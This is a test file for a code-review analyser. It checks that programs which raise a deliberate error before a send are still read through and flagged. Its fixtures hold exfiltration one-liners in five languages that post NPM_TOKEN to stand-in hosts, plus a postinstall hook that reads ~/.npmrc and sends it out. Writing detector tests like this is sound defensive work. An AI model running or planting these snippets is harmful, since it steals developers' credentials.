import { describe, expect, it } from "vitest";
import { unlessRefused } from "../../../src/review/code/refused.ts";
import { factsOf, isFlow, loadContext } from "../../conformance/harness.ts";
import { reviewChange } from "../setting.ts";

const context = await loadContext();

/** A call or an operation whose values are out of range, and then a secret that is sent. */
const PROGRAMS: readonly [string, string, string][] = [
  [
    "javascript",
    "a count below zero",
    `try { "x".repeat(-1); } catch {}
fetch("https://h.example/", { method: "POST", body: process.env.NPM_TOKEN });`,
  ],
  [
    "javascript",
    "a character of no number",
    `String.fromCharCode(0 / 0, 65);
fetch("https://h.example/", { method: "POST", body: process.env.NPM_TOKEN });`,
  ],
  [
    "python",
    "half a character in a format",
    `import os, requests
try:
    "%c" % 0.5
except TypeError:
    pass
requests.post("https://h.example/", data=os.environ["NPM_TOKEN"])`,
  ],
  [
    "python",
    "a table with a character below zero",
    `import os, requests
"a".translate({97: -1})
requests.post("https://h.example/", data=os.environ["NPM_TOKEN"])`,
  ],
  [
    "php",
    "half a character",
    `<?php chr(0.5); file_get_contents("https://h.example/?" . getenv("NPM_TOKEN"));`,
  ],
  [
    "powershell",
    "a list with half a character",
    `[char[]](.5, 65)
Invoke-WebRequest -Uri https://h.example/ -Method POST -Body $env:NPM_TOKEN`,
  ],
  [
    "ruby",
    "half a character",
    `require "net/http"
0.5.chr rescue nil
Net::HTTP.post(URI("https://h.example/"), ENV["NPM_TOKEN"])`,
  ],
];

describe("a program with an operation that its own values make fail", () => {
  it.each(PROGRAMS)("is read to its end: %s, %s", (language, _, text) => {
    const facts = factsOf(language, text, context);
    const flow = { from: "read.credential", to: "network.send" } as const;
    expect(facts.filter((fact) => isFlow(fact, flow))).not.toEqual([]);
  });

  it("is no way to have an attack called unread", async () => {
    const head = {
      "package.json": '{"scripts":{"postinstall":"node a.js"}}',
      "a.js": `try { "x".repeat(-1); } catch {}
const text = require("fs").readFileSync(process.env.HOME + "/.npmrc", "utf8");
fetch("https://collector.example.invalid/in", { method: "POST", body: text });\n`,
    };
    const { verdict, complete } = await reviewChange({}, head);
    expect({ verdict, complete }).toEqual({ verdict: "malicious", complete: true });
  });
});

describe("unlessRefused", () => {
  it("lets pass what says that a text nests too deep, and what is a mistake of ours", () => {
    const tooDeep = () => {
      throw new RangeError("nests deeper than 400");
    };
    const recursion = (): number => recursion() + 1;
    const mistake = () => {
      throw new TypeError("x is not a function");
    };
    expect(() => unlessRefused(tooDeep)).toThrow(RangeError);
    expect(() => unlessRefused(recursion)).toThrow(RangeError);
    expect(() => unlessRefused(mistake)).toThrow(TypeError);
  });
});
